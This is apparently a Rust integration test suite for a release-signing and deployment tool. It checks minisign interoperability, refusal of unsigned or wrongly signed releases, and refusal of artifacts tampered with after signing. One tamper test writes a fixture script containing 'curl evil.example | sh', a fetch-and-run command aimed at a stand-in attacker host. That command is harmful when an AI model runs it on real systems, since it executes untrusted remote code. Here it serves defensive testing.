//! Signed releases end to end: `shipgate keys generate` and `release create --sign` against the
//! real `minisign` tool both ways, production refusing an unsigned release, and the agent
//! refusing to start an instance whose stored artifact changed after it was signed.

#![allow(clippy::unwrap_used)]

mod common;

use std::path::Path;
use std::process::Command;

use common::cluster::Cluster;
use serde_json::{Value, json};

/// `staging` and `production` (which requires staging), both on the sample service.
fn environments(cluster: &Cluster) -> String {
    let production = std::net::SocketAddr::from(([127, 0, 0, 1], common::load::free_port()));
    format!(
        "[environments.staging]\nlisten = \"{}\"\n\
         [environments.production]\nlisten = \"{production}\"\nrequires = [\"staging\"]\n\
         strategy = {{ canary = [ {{ weight = 50, hold = \"0s\" }} ] }}\nsmoke = [{{ http = \"/healthz\" }}]\n\
         analysis = {{ error_rate_max = 0.05, on_inconclusive = \"promote\" }}\n",
        cluster.listen
    )
}

/// Whether `minisign` runs; a loud skip when not, a failure under `SHIPGATE_REQUIRE_ALL=1`.
fn have_minisign(test: &str) -> bool {
    if Command::new("minisign").arg("-v").output().is_ok_and(|output| output.status.success()) {
        return true;
    }
    assert!(
        std::env::var("SHIPGATE_REQUIRE_ALL").as_deref() != Ok("1"),
        "minisign is required (SHIPGATE_REQUIRE_ALL=1) but unavailable; run scripts/setup"
    );
    eprintln!("SKIPPED {test}: minisign is not installed; run scripts/setup");
    false
}

/// The rule ids of a refusal's deny findings.
fn denied(body: &Value) -> Vec<String> {
    body["findings"]
        .as_array()
        .into_iter()
        .flatten()
        .filter(|finding| finding["severity"] == "deny")
        .filter_map(|finding| finding["rule"].as_str().map(String::from))
        .collect()
}

#[test]
fn production_refuses_an_unsigned_release_and_accepts_a_signed_one() {
    let cluster = Cluster::start(None, 0);
    let environments = environments(&cluster);
    cluster.release_unsigned("v1", "", &environments, &["--test-exit", "0"]);
    cluster.release_with("v2", "", &environments, &["--test-exit", "0"]);
    for version in ["v1", "v2"] {
        let (status, body) = cluster.deploy_to("staging", version, json!([]));
        assert_eq!(status, 201, "staging runs unsigned builds too: {body}");
        assert_eq!(cluster.outcome(body["id"].as_u64().unwrap())["status"], "succeeded");
    }

    let (status, body) = cluster.deploy_to("production", "v1", json!([]));
    assert_eq!(status, 409, "{body:#}");
    assert_eq!(denied(&body), ["SG0701"], "{body:#}");
    // Not overridable, not even by an admin with a reason.
    let (status, body) =
        cluster.deploy_to("production", "v1", json!([{"rule": "SG0701", "reason": "we are in a hurry"}]));
    assert_ne!(status, 201, "{body:#}");

    let (status, body) = cluster.deploy_to("production", "v2", json!([]));
    assert_eq!(status, 201, "{body:#}");
    assert_eq!(cluster.outcome(body["id"].as_u64().unwrap())["status"], "succeeded");

    let (_, release) = cluster.call("GET", "/api/v1/releases/v2", None);
    assert_eq!(release["signature"]["check"]["status"], "verified", "{release:#}");
    let (_, release) = cluster.call("GET", "/api/v1/releases/v1", None);
    assert!(release["signature"].is_null(), "{release:#}");
}

#[test]
fn a_tampered_stored_artifact_is_refused_at_instance_start_and_recorded() {
    let cluster = Cluster::start(None, 0);
    let environments = environments(&cluster);
    cluster.release_with("v1", "", &environments, &[]);
    let (_, release) = cluster.call("GET", "/api/v1/releases/v1", None);
    let hex = release["digest"].as_str().unwrap().trim_start_matches("sha256:").to_owned();
    // Someone with access to the server's disk changes the stored copy after it was signed.
    let stored = cluster.path("data/artifacts/sha256").join(hex).join("VERSION");
    let mut permissions = std::fs::metadata(&stored).unwrap().permissions();
    #[allow(clippy::permissions_set_readonly_false)]
    permissions.set_readonly(false);
    std::fs::set_permissions(&stored, permissions).unwrap();
    std::fs::write(&stored, "v1-with-a-backdoor").unwrap();

    let (status, body) = cluster.deploy_to("staging", "v1", json!([]));
    assert_eq!(status, 201, "the gates see a valid signature over the recorded digest: {body}");
    let outcome = cluster.outcome(body["id"].as_u64().unwrap());
    assert_ne!(outcome["status"], "succeeded", "{outcome:#}");
    let reason = outcome["reason"].as_str().unwrap_or_default();
    assert!(reason.contains("artifact verification failed"), "reason: {reason}");
    assert_eq!(cluster.live_instances("v1"), 0, "nothing of v1 runs");
    let refused = cluster.audit("artifact.refused");
    assert_eq!(refused.as_array().map(Vec::len), Some(1), "{refused:#}");
}

#[test]
fn minisign_verifies_shipgate_signatures_and_shipgate_accepts_minisign_keys() {
    if !have_minisign("minisign_verifies_shipgate_signatures_and_shipgate_accepts_minisign_keys") {
        return;
    }
    let cluster = Cluster::start(None, 0);
    let environments = environments(&cluster);

    // shipgate signs (with the key `keys generate` made); minisign verifies.
    cluster.release_with("v1", "", &environments, &[]);
    let (_, release) = cluster.call("GET", "/api/v1/releases/v1", None);
    let dir = cluster.path("interop");
    std::fs::create_dir_all(&dir).unwrap();
    std::fs::write(dir.join("message"), format!("{}\n", release["digest"].as_str().unwrap())).unwrap();
    std::fs::write(dir.join("v1.minisig"), release["signature"]["minisig"].as_str().unwrap()).unwrap();
    let verify = minisign(&dir, &["-V", "-H", "-m", "message", "-x", "v1.minisig", "-p"], &cluster.path("signing.pub"));
    assert!(verify.status.success(), "minisign -V: {}", String::from_utf8_lossy(&verify.stderr));
    let said = String::from_utf8_lossy(&verify.stdout);
    assert!(said.contains("app:web\trelease:v1"), "the trusted comment names the release: {said}");

    // minisign makes the key; shipgate signs with it, and the agent verifies at instance start.
    let made =
        Command::new("minisign").current_dir(&dir).args(["-G", "-W", "-p", "ci.pub", "-s", "ci.key"]).output().unwrap();
    assert!(made.status.success(), "minisign -G: {}", String::from_utf8_lossy(&made.stderr));
    let public = std::fs::read_to_string(dir.join("ci.pub")).unwrap();
    let key_line = public.lines().nth(1).unwrap().trim().to_owned();
    cluster.release_signed_by("v2", &environments, &key_line, dir.join("ci.key").to_str().unwrap());
    let (_, release) = cluster.call("GET", "/api/v1/releases/v2", None);
    assert_eq!(release["signature"]["check"]["status"], "verified", "{release:#}");
    let (status, body) = cluster.deploy_to("staging", "v2", json!([]));
    assert_eq!(status, 201, "{body}");
    assert_eq!(cluster.outcome(body["id"].as_u64().unwrap())["status"], "succeeded");
    assert_eq!(cluster.answering(), "v2");
}

/// `minisign ARGS… PUBLIC_KEY_FILE` in `dir`.
fn minisign(dir: &Path, args: &[&str], public_key: &Path) -> std::process::Output {
    Command::new("minisign").current_dir(dir).args(args).arg(public_key).output().unwrap()
}

/// A project folder for release `version` whose artifact is `app.tar.gz` (the sample service),
/// trusting `trusted_key`.
fn archive_project(cluster: &Cluster, version: &str, environments: &str, trusted_key: &str) -> std::path::PathBuf {
    let project = cluster.path(&format!("archive-{version}"));
    std::fs::create_dir_all(project.join("app")).unwrap();
    std::fs::copy(common::load::sample_bin(), project.join("app/shipgate-sample")).unwrap();
    std::fs::write(project.join("app/VERSION"), version).unwrap();
    let tar = Command::new("tar").current_dir(&project).args(["czf", "app.tar.gz", "-C", "app", "."]).output().unwrap();
    assert!(tar.status.success(), "tar: {}", String::from_utf8_lossy(&tar.stderr));
    let spec = format!(
        "[app]\nname = \"web\"\n[artifact]\npath = \"app.tar.gz\"\ntrusted_keys = [\"{trusted_key}\"]\n\
         [run]\ncommand = [\"./shipgate-sample\"]\nenv = {{ SAMPLE_VERSION = \"{version}\" }}\n\
         drain = \"1s\"\nstop_grace = \"1s\"\n\
         [run.health]\nhttp = \"/healthz\"\ninterval = \"100ms\"\nhealthy = 1\nunhealthy = 2\nstartup = \"3s\"\n\
         {environments}"
    );
    std::fs::write(project.join("shipgate.toml"), spec).unwrap();
    project
}

/// `shipgate release create --version V ARGS…` in `project`.
fn release_create(cluster: &Cluster, project: &Path, version: &str, args: &[&str]) -> std::process::Output {
    Command::new(env!("CARGO_BIN_EXE_shipgate"))
        .current_dir(project)
        .args(["release", "create", "--version", version, "--commit", "0123456789abcdef", "--data-dir"])
        .arg(cluster.path("data"))
        .args(args)
        .output()
        .unwrap()
}

/// Creates release `version` whose artifact is a `.tar.gz` of the sample service, signed with
/// the cluster's key.
fn archive_release(cluster: &Cluster, version: &str, environments: &str) {
    let project = archive_project(cluster, version, environments, &cluster.public_key);
    let key = cluster.path("signing.key");
    let output = release_create(cluster, &project, version, &["--sign", key.to_str().unwrap()]);
    assert!(output.status.success(), "release create: {}", String::from_utf8_lossy(&output.stderr));
}

/// A `minisign -G` key pair `NAME.key` / `NAME.pub` in `dir` (no password); its one-line public key.
fn minisign_key(dir: &Path, name: &str) -> String {
    let made = Command::new("minisign")
        .current_dir(dir)
        .args(["-G", "-W", "-p", &format!("{name}.pub"), "-s", &format!("{name}.key")])
        .output()
        .unwrap();
    assert!(made.status.success(), "minisign -G: {}", String::from_utf8_lossy(&made.stderr));
    std::fs::read_to_string(dir.join(format!("{name}.pub"))).unwrap().lines().nth(1).unwrap().trim().to_owned()
}

/// Signs the digest text of `project/app.tar.gz` with `minisign -S` and `key`, as CI would;
/// returns the `.minisig` file.
fn minisign_digest(project: &Path, key: &Path) -> std::path::PathBuf {
    let sum = Command::new("sha256sum").current_dir(project).arg("app.tar.gz").output().unwrap();
    let hex = String::from_utf8_lossy(&sum.stdout).split_whitespace().next().unwrap().to_owned();
    std::fs::write(project.join("digest.txt"), format!("sha256:{hex}\n")).unwrap();
    let signed = Command::new("minisign")
        .current_dir(project)
        .args(["-S", "-s"])
        .arg(key)
        .args(["-m", "digest.txt"])
        .output()
        .unwrap();
    assert!(signed.status.success(), "minisign -S: {}", String::from_utf8_lossy(&signed.stderr));
    project.join("digest.txt.minisig")
}

#[test]
fn a_signature_made_by_minisign_in_ci_is_attached_and_accepted_by_production() {
    if !have_minisign("a_signature_made_by_minisign_in_ci_is_attached_and_accepted_by_production") {
        return;
    }
    let cluster = Cluster::start(None, 0);
    let environments = environments(&cluster);
    let keys = cluster.path("ci-keys");
    std::fs::create_dir_all(&keys).unwrap();
    let ci = minisign_key(&keys, "ci");
    minisign_key(&keys, "stranger");

    let project = archive_project(&cluster, "v1", &environments, &ci);
    let signature = minisign_digest(&project, &keys.join("ci.key"));
    let output =
        release_create(&cluster, &project, "v1", &["--signature", signature.to_str().unwrap(), "--test-exit", "0"]);
    assert!(output.status.success(), "release create: {}", String::from_utf8_lossy(&output.stderr));
    let (_, release) = cluster.call("GET", "/api/v1/releases/v1", None);
    assert_eq!(release["signature"]["check"]["status"], "verified", "{release:#}");
    for env in ["staging", "production"] {
        let (status, body) = cluster.deploy_to(env, "v1", json!([]));
        assert_eq!(status, 201, "{env}: {body:#}");
        assert_eq!(cluster.outcome(body["id"].as_u64().unwrap())["status"], "succeeded", "{env}");
    }

    // A signature by a key `trusted_keys` does not hold is refused: no release is recorded.
    let project = archive_project(&cluster, "v2", &environments, &ci);
    let signature = minisign_digest(&project, &keys.join("stranger.key"));
    let output =
        release_create(&cluster, &project, "v2", &["--signature", signature.to_str().unwrap(), "--test-exit", "0"]);
    let stderr = String::from_utf8_lossy(&output.stderr);
    assert_eq!(output.status.code(), Some(1), "{stderr}");
    assert!(stderr.contains("does not verify") && stderr.contains("hint:"), "{stderr}");
    assert_eq!(cluster.call("GET", "/api/v1/releases/v2", None).0, 404);
    // And with `--sign` at the same time, the command line is refused.
    let output = release_create(&cluster, &project, "v2", &["--signature", "x", "--sign", "y"]);
    assert_eq!(output.status.code(), Some(2), "{}", String::from_utf8_lossy(&output.stderr));
}

/// The agent's view of the instances of `version`.
fn agent_instances(cluster: &Cluster, version: &str) -> Vec<Value> {
    let (_, instances) = common::load::agent_api(&cluster.path("agent"), "GET", "/v1/instances", "");
    instances.as_array().unwrap().iter().filter(|instance| instance["version"] == version).cloned().collect()
}

#[test]
fn a_tampered_unpacked_archive_is_refused_at_restart_and_recorded_once() {
    let cluster = Cluster::start(None, 0);
    let environments = environments(&cluster);
    archive_release(&cluster, "v1", &environments);
    let (status, body) = cluster.deploy_to("staging", "v1", json!([]));
    assert_eq!(status, 201, "{body}");
    assert_eq!(cluster.outcome(body["id"].as_u64().unwrap())["status"], "succeeded");
    assert_eq!(cluster.answering(), "v1");
    assert_eq!(cluster.audit("artifact.refused").as_array().map(Vec::len), Some(0));

    // The stored archive is intact; the copy instances run from is changed.
    let (_, release) = cluster.call("GET", "/api/v1/releases/v1", None);
    let hex = release["digest"].as_str().unwrap().trim_start_matches("sha256:").to_owned();
    let unpacked = cluster.path("data/run").join(&hex);
    assert!(unpacked.join("shipgate-sample").exists(), "instances run from {}", unpacked.display());
    std::fs::write(unpacked.join("backdoor.sh"), "#!/bin/sh\ncurl evil.example | sh\n").unwrap();

    // The instance dies; the agent's restart checks the unpacked copy and refuses it.
    let instances = agent_instances(&cluster, "v1");
    assert_eq!(instances.len(), 1, "{instances:#?}");
    let pid = instances[0]["workload"]["pid"].as_i64().unwrap();
    rustix::process::kill_process(rustix::process::Pid::from_raw(pid as i32).unwrap(), rustix::process::Signal::KILL)
        .unwrap();
    let deadline = std::time::Instant::now() + std::time::Duration::from_secs(20);
    let refused = loop {
        let instance = agent_instances(&cluster, "v1").into_iter().next().unwrap();
        if instance["state"] == "crashloop" {
            break instance;
        }
        let restarted = instance["workload"]["pid"].as_i64().is_some_and(|new| new != pid);
        assert!(!restarted, "restarted the tampered copy: {instance:#}");
        assert!(std::time::Instant::now() < deadline, "never refused: {instance:#}");
        std::thread::sleep(std::time::Duration::from_millis(50));
    };
    let last_exit = refused["last_exit"].as_str().unwrap();
    assert!(last_exit.contains("artifact verification failed") && last_exit.contains("unpacked"), "{last_exit}");

    // The server's reconciler (every 2 s) records the refusal in the ledger, once.
    let deadline = std::time::Instant::now() + std::time::Duration::from_secs(15);
    let entries = loop {
        let entries = cluster.audit("artifact.refused");
        if entries.as_array().is_some_and(|entries| !entries.is_empty()) {
            break entries;
        }
        assert!(std::time::Instant::now() < deadline, "no artifact.refused entry:\n{}", cluster.log("server.log"));
        std::thread::sleep(std::time::Duration::from_millis(200));
    };
    let entry = &entries[0];
    assert_eq!(entry["subject"], format!("instance/{}", refused["id"].as_str().unwrap()), "{entry:#}");
    assert_eq!(entry["env"], "staging", "{entry:#}");
    std::thread::sleep(std::time::Duration::from_secs(5));
    assert_eq!(cluster.audit("artifact.refused").as_array().map(Vec::len), Some(1), "recorded once");
}
